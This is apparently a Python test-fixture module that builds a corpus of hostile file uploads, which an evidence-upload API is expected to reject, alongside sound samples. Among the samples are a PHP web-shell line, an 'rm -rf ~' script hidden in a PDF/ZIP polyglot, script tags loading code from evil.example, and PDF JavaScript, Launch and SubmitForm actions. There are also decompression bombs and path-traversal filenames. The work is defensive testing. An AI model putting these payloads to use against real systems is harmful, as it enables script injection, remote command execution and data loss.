"""Malicious and well-formed evidence uploads, generated in code (no binary blobs).

CORPUS: Bad(name, kind, filename, data, parts) — each must be refused with a 4xx in the API error
format and leave no file, no temporary file and no row. GOOD: one sound sample per content type."""
import io
import struct
import zipfile
import zlib
from dataclasses import dataclass

from PIL import Image

BOUNDARY = "tj-corpus-boundary"


# well-formed samples ------------------------------------------------------------------------------
def image(fmt="PNG", size=(40, 30), color=(200, 30, 30), **save):
    buf = io.BytesIO()
    Image.new("RGB", size, color).save(buf, fmt, **save)
    return buf.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    """A PNG chunk with its CRC."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def box(kind: bytes, payload: bytes = b"") -> bytes:
    return struct.pack(">I", 8 + len(payload)) + kind + payload


def mp4(brand=b"isom", tail=b"") -> bytes:
    """A minimal MP4 skeleton: ftyp, moov (with an mvhd), mdat."""
    ftyp = box(b"ftyp", brand + b"\x00\x00\x02\x00" + brand + b"mp41")
    moov = box(b"moov", box(b"mvhd", b"\x00" * 100))
    return ftyp + moov + box(b"mdat", b"\x00\x01\x02\x03" * 64) + tail


def pdf(catalog=b"", page=b"", extra=(), trailer=b"") -> bytes:
    """A one-page PDF written object by object, with a correct cross-reference table; ``extra`` are
    objects 4, 5 … that the catalog or page may refer to."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
               b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] " + page + b" >>", *extra]
    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return out + trailer


def encrypted_pdf() -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.encrypt("", "owner", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def zip_bytes(files) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in files.items():
            z.writestr(name, data)
    return out.getvalue()


def png_with_header_size(width, height):
    """A tiny PNG whose IHDR claims width x height pixels (a pixel flood / bomb from the header)."""
    raw = image("PNG", (1, 1))
    ihdr = b"IHDR" + struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return raw[:8] + struct.pack(">I", 13) + ihdr + struct.pack(">I", zlib.crc32(ihdr)) + raw[33:]


def gif_with_header_size(width, height):
    raw = image("GIF", (1, 1))
    return raw[:6] + struct.pack("<HH", width, height) + raw[10:]


def webp_with_canvas(width, height):
    """A VP8X WebP header announcing a width x height canvas, with no image data."""
    vp8x = b"VP8X" + struct.pack("<I", 10) + b"\x00\x00\x00\x00" + (width - 1).to_bytes(3, "little") \
        + (height - 1).to_bytes(3, "little")
    return b"RIFF" + struct.pack("<I", 4 + len(vp8x)) + b"WEBP" + vp8x


_FLOOD = None


def pixel_flood_png():
    """6,300 x 6,300 pixels of one colour: about 170 KB on the wire, 119 MB once decoded (finding 4)."""
    global _FLOOD
    if _FLOOD is None:
        _FLOOD = image("PNG", (6300, 6300), (255, 255, 255), compress_level=9)
    return _FLOOD


SCRIPT = b"<script>alert(document.cookie)</script>"
HTML = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
CHAT = "2026-05-01 10:00 买家: 东西坏了\n2026-05-01 10:05 卖家: 请发照片\n".encode() * 200

GOOD = {  # content type -> a sound sample of it
    "image/jpeg": image("JPEG"), "image/png": image("PNG"), "image/gif": image("GIF"),
    "image/webp": image("WEBP"), "application/pdf": pdf(), "video/mp4": mp4(),
    "text/plain": CHAT, "text/csv": "时间,发送者,内容\n10:00,买家,东西坏了\n10:05,卖家,请发照片\n".encode(),
}


# multipart bodies ------------------------------------------------------------------------------------
def part(name, value, filename=None, ctype=None, extra_headers=b""):
    disposition = b'form-data; name="%s"' % name.encode()
    if filename is not None:
        disposition += b'; filename="' + (filename if isinstance(filename, bytes) else filename.encode()) + b'"'
    headers = b"Content-Disposition: " + disposition + b"\r\n"
    if ctype:
        headers += b"Content-Type: " + ctype.encode() + b"\r\n"
    return headers + extra_headers + b"\r\n" + (value if isinstance(value, bytes) else value.encode())


def multipart(parts, boundary=BOUNDARY, preamble=b""):
    b = boundary.encode()
    body = preamble + b"".join(b"--" + b + b"\r\n" + p + b"\r\n" for p in parts) + b"--" + b + b"--\r\n"
    return body, f"multipart/form-data; boundary={boundary}"


def evidence_parts(data, kind="photo", filename="evidence.bin", description="证据"):
    return [part("kind", kind), part("description", description),
            part("file", data, filename=filename, ctype="application/octet-stream")]


@dataclass(frozen=True)
class Bad:
    name: str
    kind: str = "photo"
    data: bytes = b""
    filename: object = "evidence.bin"
    parts: tuple = ()  # a whole multipart body's parts (parser-level cases); else evidence_parts()

    def body(self):
        parts = self.parts or evidence_parts(self.data, self.kind, self.filename)
        return multipart(parts)


def _corpus():
    png, jpeg, gif = GOOD["image/png"], GOOD["image/jpeg"], GOOD["image/gif"]
    js = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    embedded = (b"<< /Type /Filespec /F (invoice.exe) /EF << /F 5 0 R >> >>",
                b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream")
    ftyp = box(b"ftyp", b"isom\x00\x00\x02\x00isommp41")
    yield from [
        # polyglots: a valid image or PDF with markup or an archive riding along
        Bad("gif_html_polyglot", "photo", gif + HTML, "cat.gif"),
        Bad("jpeg_html_polyglot", "photo", jpeg + HTML, "cat.jpg"),
        Bad("png_svg_trailer", "chat_screenshot", png + b'<svg onload="alert(1)"/>', "chat.png"),
        Bad("jpeg_comment_script", "photo", jpeg[:2] + b"\xff\xfe" + struct.pack(">H", 2 + len(SCRIPT)) + SCRIPT
            + jpeg[2:], "comment.jpg"),
        Bad("pdf_zip_polyglot", "document", pdf() + zip_bytes({"run.sh": b"rm -rf ~"}), "contract.pdf"),
        Bad("pdf_html_after_eof", "document", pdf() + HTML, "contract.pdf"),
        # markup dressed as an image or as text
        Bad("svg_as_photo", "photo", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
            "photo.png"),
        Bad("html_named_png", "photo", HTML, "photo.png"),
        Bad("html_as_chat_export", "chat_export", HTML, "chat.txt"),
        Bad("svg_as_chat_export", "chat_export", b"<svg/onload=alert(1)>", "chat.txt"),
        Bad("xml_as_chat_export", "chat_export", b'<?xml version="1.0"?><x>1</x>', "chat.txt"),
        Bad("php_as_chat_export", "chat_export", b"<?php system($_GET['c']); ?>", "chat.txt"),
        Bad("bom_then_html", "chat_export", b"\xef\xbb\xbf \r\n\t<HTML><BODY>hi</BODY></HTML>", "chat.txt"),
        Bad("script_deep_in_chat", "chat_export", CHAT + b"<ScRiPt src=//evil.example/x.js></sCrIpT>" + CHAT,
            "chat.txt"),
        Bad("iframe_in_chat", "chat_export", CHAT + b'<iframe src="https://evil.example"></iframe>', "chat.txt"),
        Bad("javascript_uri_in_chat", "chat_export", CHAT + b"click JavaScript:alert(1)", "chat.txt"),
        Bad("link_in_csv", "chat_export", b"a,b\n<a href=//evil.example>x</a>,2\n3,4\n", "chat.csv"),
        Bad("invalid_utf8_text", "chat_export", CHAT + b"\xff\xfe\xfd" + CHAT, "chat.txt"),
        Bad("nul_in_text", "chat_export", CHAT * 3 + b"\x00" + CHAT, "chat.txt"),
        # PDFs that act
        Bad("pdf_openaction_js", "document", pdf(b"/OpenAction " + js), "a.pdf"),
        Bad("pdf_names_tree_js", "document", pdf(b"/Names << /JavaScript << /Names [(x) 4 0 R] >> >>",
                                                 extra=(js,)), "a.pdf"),
        Bad("pdf_page_aa_js", "document", pdf(page=b"/AA << /O " + js + b" >>"), "a.pdf"),
        Bad("pdf_hex_escaped_js", "document", pdf(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
            "a.pdf"),
        Bad("pdf_launch", "document", pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"), "a.pdf"),
        # found by the attack on issue 11: a whole PDF with a script inside another type's first KiB, where
        # Acrobat looks for "%PDF-" (the MP4's boxes tile, the PNG's chunks are sound, neither has markup)
        Bad("mp4_carrying_js_pdf", "video", ftyp + box(b"moov", box(b"mvhd", b"\x00" * 100))
            + box(b"mdat", pdf(b"/OpenAction " + js)), "clip.mp4"),
        Bad("png_carrying_js_pdf", "photo", png[:33] + _chunk(b"tEXt", b"c\x00" + pdf(b"/OpenAction " + js))
            + png[33:], "cat.png"),
        Bad("pdf_javascript_uri_in_hex", "document",
            pdf(b"/OpenAction << /S /URI /URI <6a617661736372697074 3a616c657274283129> >>"), "a.pdf"),
        Bad("pdf_embedded_file", "document", pdf(b"/Names << /EmbeddedFiles << /Names [(i.exe) 4 0 R] >> >>",
                                                 extra=embedded), "a.pdf"),
        Bad("pdf_file_attachment_annot", "document",
            pdf(page=b"/Annots [6 0 R]", extra=(*embedded, b"<< /Type /Annot /Subtype /FileAttachment "
                                                           b"/Rect [0 0 10 10] /FS 4 0 R >>")), "a.pdf"),
        Bad("pdf_submitform", "document", pdf(b"/OpenAction << /S /SubmitForm /F (https://evil.example) >>"),
            "a.pdf"),
        Bad("pdf_importdata", "document", pdf(b"/OpenAction << /S /ImportData /F (data.fdf) >>"), "a.pdf"),
        Bad("pdf_richmedia", "document", pdf(page=b"/Annots [<< /Type /Annot /Subtype /RichMedia "
                                                  b"/Rect [0 0 10 10] >>]"), "a.pdf"),
        Bad("pdf_xfa", "document", pdf(b"/AcroForm << /Fields [] /XFA 4 0 R >>",
                                       extra=(b"<< /Length 3 >>\nstream\n<x>\nendstream",)), "a.pdf"),
        Bad("pdf_encrypted", "document", encrypted_pdf(), "a.pdf"),
        Bad("pdf_unparseable", "document", b"%PDF-1.7\n" + b"\x00garbage" * 100, "a.pdf"),
        # fake MP4s
        Bad("mp4_ftyp_then_html", "video", ftyp + HTML, "v.mp4"),
        Bad("mp4_truncated_moov", "video", ftyp + struct.pack(">I", 4000) + b"moov" + b"\x00" * 100, "v.mp4"),
        Bad("mp4_box_size_too_small", "video", ftyp + struct.pack(">I", 4) + b"moov" + b"\x00" * 100, "v.mp4"),
        Bad("mp4_largesize_lies", "video", ftyp + struct.pack(">I", 1) + b"mdat" + struct.pack(">Q", 1 << 40)
            + b"\x00" * 64, "v.mp4"),
        Bad("mp4_without_moov", "video", ftyp + box(b"mdat", b"\x00" * 64), "v.mp4"),
        Bad("mp4_unknown_brand", "video", mp4(brand=b"xhtm"), "v.mp4"),
        Bad("mp4_trailing_html", "video", mp4(tail=HTML), "v.mp4"),
        # bombs
        Bad("png_pixel_flood", "photo", pixel_flood_png(), "flood.png"),
        Bad("png_header_60000_square", "photo", png_with_header_size(60000, 60000), "bomb.png"),
        Bad("gif_header_65535_square", "photo", gif_with_header_size(65535, 65535), "bomb.gif"),
        Bad("webp_canvas_16383_square", "photo", webp_with_canvas(16383, 16383), "bomb.webp"),
        Bad("zip_bomb_as_document", "document", zip_bytes({"a.txt": b"\x00" * 5_000_000}), "a.pdf"),
        Bad("gzip_as_chat_export", "chat_export", zlib.compress(b"\x00" * 5_000_000), "chat.csv"),
        # a sound file under the wrong kind
        Bad("pdf_as_photo", "photo", GOOD["application/pdf"], "photo.jpg"),
        Bad("mp4_as_chat_screenshot", "chat_screenshot", GOOD["video/mp4"], "s.png"),
        Bad("png_as_video", "video", png, "v.mp4"),
        Bad("csv_as_document", "document", GOOD["text/csv"], "a.pdf"),
        Bad("text_as_shipping_proof", "shipping_proof", CHAT, "waybill.jpg"),
        # the multipart layer (fixed in app/evidence/upload.py by the request-parsing work)
        Bad("traversal_filename", "photo", png, "../../../../etc/cron.d/x.png"),
        Bad("nul_filename", "photo", png, b"photo.png\x00.php"),
        Bad("rtl_override_filename", "photo", png, "photo\u202egnp.exe"),
        Bad("overlong_filename", "photo", png, "a" * 2000 + ".png"),
        Bad("oversized_description", parts=(part("kind", "photo"), part("description", "说" * 40_000),
                                            part("file", png, filename="a.png"))),
        Bad("oversized_unknown_field", parts=(part("kind", "photo"), part("junk", b"x" * 200_000),
                                              part("file", png, filename="a.png"))),
        Bad("thousands_of_parts", parts=(*[part(f"f{i}", "x") for i in range(5000)], part("kind", "photo"),
                                         part("file", png, filename="a.png"))),
        Bad("oversized_part_header", parts=(part("kind", "photo"),
                                            part("file", png, filename="a.png",
                                                 extra_headers=b"X-Pad: " + b"p" * 20_000 + b"\r\n"))),
    ]


CORPUS = list(_corpus())
